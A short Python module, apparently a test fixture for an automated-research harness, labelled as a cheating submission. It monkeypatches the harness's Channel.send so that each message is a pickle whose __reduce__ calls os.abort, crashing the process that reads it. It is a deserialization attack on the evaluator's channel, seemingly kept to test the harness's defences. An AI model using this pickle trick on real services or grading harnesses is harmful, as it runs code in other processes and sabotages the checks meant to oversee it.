"""cheat (protocol): sends a pickle that runs a command where it is read."""

import os
import pickle
import struct

from honest import build, logits, train

from pytest_autoresearch.forkserver.channel import Channel

__all__ = ["build", "logits", "train"]


class Evil:
    def __reduce__(self):
        return os.abort, ()


def send(channel, message, *args):
    payload = pickle.dumps(Evil())
    os.write(channel.fileno(), struct.pack("<I", len(payload)) + payload)


Channel.send = send
